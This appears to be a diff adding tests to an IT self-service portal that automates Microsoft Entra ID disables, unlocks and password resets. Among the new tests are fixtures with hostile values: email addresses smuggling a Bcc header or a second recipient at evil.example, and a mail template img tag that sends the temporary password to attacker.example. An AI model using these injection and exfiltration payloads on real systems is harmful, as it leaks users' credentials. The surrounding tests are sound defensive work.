@@ -79,8 +79,8 @@ def test_force_password_reset_end_to_end(app, db, synced, catalogue, person, emu
 
 
 def test_disable_ends_sessions_and_blocks_sign_in_then_unlock_restores(app, db, synced, catalogue, person, new_user,
-                                                                       emulator, login_as, client):
-    """A manager's leaver ticket disables the named person; an unlock ticket later restores them."""
+                                                                       emulator, login_as, client, admin):
+    """A manager's leaver ticket disables the named person; an unlock ticket restores them once an admin approves."""
     workflow(synced, catalogue, "Leaver: disable account", "disable", target="ticket_subject")
     workflow(synced, catalogue, "Account locked out", "unlock", target="ticket_subject")
     leaver_device = app.test_client()
@@ -99,9 +99,26 @@ def test_disable_ends_sessions_and_blocks_sign_in_then_unlock_restores(app, db, 
     assert 'data-failure="disabled_at_microsoft"' in refused.get_data(as_text=True)
     timeline = client.get(f"/tickets/{ticket_id}").get_data(as_text=True)
     assert "The account is disabled and signed out everywhere." in timeline
-    raise_ticket(client, catalogue, "Account locked out", about=person["mail"])
+    unlock_ticket = raise_ticket(client, catalogue, "Account locked out", about=person["mail"])
+    parked = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == unlock_ticket))
+    assert parked.status == "awaiting_approval"  # a ticket never undoes IT's disable on its own
+    assert emulator.user(person["id"])["props"]["accountEnabled"] is False
+    approve(app, admin, unlock_ticket, parked.id)
     assert emulator.user(person["id"])["props"]["accountEnabled"] is True
     assert sso.sign_in(app.test_client(), synced, person["userPrincipalName"], PASSWORD).headers["Location"] == "/home"
+
+
+def approve(app, admin, ticket_id, run_id):
+    """An admin approves a parked run on the ticket page, as the button does."""
+    from tests.conftest import ADMIN_PASSWORD, admin_sign_in
+
+    admin_client = app.test_client()
+    assert admin_sign_in(admin_client, admin.email, ADMIN_PASSWORD).status_code == 302
+    page = admin_client.get(f"/admin/tickets/{ticket_id}").get_data(as_text=True)
+    assert f'id="approve-run-{run_id}"' in page
+    done = admin_client.post(f"/admin/tickets/{ticket_id}/runs/{run_id}/approve", data={"csrf_token": csrf_from(page)})
+    assert done.status_code == 302
+    return admin_client
 
 
 def test_unlock_clears_the_portal_lock(app, db, synced, catalogue, person, login_as, client):
@@ -306,3 +323,84 @@ def test_mail_failure_is_shown_and_graph_not_repeated(app, db, synced, catalogue
     assert any("email could not be sent" in e for e in events)
     sessions = db.session.scalars(sa.select(DeviceSession).where(DeviceSession.requester_id == person["requester"].id)).all()
     assert sessions and all(s.ended_at and s.end_reason == "password_reset" for s in sessions)
+
+
+def test_a_disabled_person_cannot_re_enable_themselves_through_unlock(app, db, synced, catalogue, person, emulator,
+                                                                     client, admin):
+    """Disabled in Entra while their portal session is still open, a person raises 'Account locked out': the portal
+    lock is lifted, but the account stays disabled until an admin approves; the next sync does not see it enabled."""
+    workflow(synced, catalogue, "Account locked out", "unlock")
+    assert sso.sign_in(client, synced, person["userPrincipalName"], PASSWORD).status_code == 302
+    emulator.update_user(person["id"], accountEnabled=False)  # IT disables them; no sync has run yet
+    ticket_id = raise_ticket(client, catalogue, "Account locked out")
+    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
+    assert run.status == "awaiting_approval" and run.error_code == "approval_required"
+    assert emulator.user(person["id"])["props"]["accountEnabled"] is False
+    page = client.get(f"/tickets/{ticket_id}").get_data(as_text=True)
+    assert "an IT admin must approve turning it back on" in page
+    start_run(synced, "delta", "manual")
+    jobs.run_queued_syncs(app)
+    db.session.expire_all()
+    assert db.session.get(Requester, person["requester"].id).status == "disabled"
+    assert client.get("/home").status_code == 302  # the sync ended the session that was still open
+    actions = set(db.session.scalars(sa.select(AuditEvent.action)))
+    assert "action.awaiting_approval" in actions and "action.approved" not in actions
+
+
+def test_approving_needs_a_parked_run_of_that_ticket(app, db, synced, catalogue, person, emulator, client, admin):
+    """Approve works only on a waiting run of the same ticket; anything else is a 404 and changes nothing."""
+    workflow(synced, catalogue, "Account locked out", "unlock")
+    assert sso.sign_in(client, synced, person["userPrincipalName"], PASSWORD).status_code == 302
+    emulator.update_user(person["id"], accountEnabled=False)
+    ticket_id = raise_ticket(client, catalogue, "Account locked out")
+    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
+    admin_client = approve(app, admin, ticket_id, run.id)
+    db.session.expire_all()
+    assert db.session.get(ActionRun, run.id).status == "succeeded"
+    page = admin_client.get(f"/admin/tickets/{ticket_id}").get_data(as_text=True)
+    again = admin_client.post(f"/admin/tickets/{ticket_id}/runs/{run.id}/approve", data={"csrf_token": csrf_from(page)})
+    assert again.status_code == 404
+    approved = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "action.approved"))
+    assert approved.actor_type == "admin"
+
+
+@pytest.mark.parametrize("mail_value", ["victim@contoso.onmicrosoft.com, attacker@evil.example",
+                                        "victim@contoso.onmicrosoft.com\r\nBcc: attacker@evil.example"])
+def test_reset_with_an_unusable_address_changes_nothing_in_entra(app, db, synced, catalogue, person, emulator, mailbox,
+                                                                  login_as, client, mail_value):
+    """A recipient that is not one valid address fails the run before Graph is called: the password is not reset
+    (so nobody is left with a password nobody knows), no mail goes anywhere, and the ticket says what to fix."""
+    workflow(synced, catalogue, "Reset my password", "force_password_reset")
+    requester = person["requester"]
+    requester.email = mail_value  # as an unchecked sync would have stored it
+    db.session.commit()
+    before = emulator.user(person["id"])
+    login_as(requester)
+    ticket_id = raise_ticket(client, catalogue, "Reset my password")
+    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
+    assert run.status == "failed" and run.error_code == "invalid_recipient" and run.graph_request_id is None
+    assert "Nothing was changed in Microsoft Entra ID" in run.error_message
+    after = emulator.user(person["id"])
+    assert after.get("forceChangePasswordNextSignIn") == before.get("forceChangePasswordNextSignIn")
+    assert after["props"].get("lastPasswordChangeDateTime") == before["props"].get("lastPasswordChangeDateTime")
+    assert mailbox == []
+
+
+def test_a_stored_leaking_template_stops_the_reset_before_graph(app, db, synced, catalogue, person, emulator, mailbox,
+                                                                 login_as, client):
+    """A mail template saved before templates were checked, that would leak the password to an image URL, fails the
+    run before the reset: the password is never set, never rendered, never sent."""
+    from portal.mail import DEFAULT_TEMPLATES
+    from portal.models import Setting
+
+    template = dict(DEFAULT_TEMPLATES["password_reset"])
+    template["html"] += '<img src="https://attacker.example/?p={{ temporary_password | urlencode }}">'
+    db.session.add(Setting(key="mail_template:password_reset", value=template, updated_by="legacy"))
+    db.session.commit()
+    workflow(synced, catalogue, "Reset my password", "force_password_reset")
+    login_as(person["requester"])
+    ticket_id = raise_ticket(client, catalogue, "Reset my password")
+    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
+    assert run.status == "failed" and run.error_code == "mail_failed" and "filter" in run.error_message
+    assert emulator.user(person["id"]).get("forceChangePasswordNextSignIn") is not True
+    assert mailbox == []
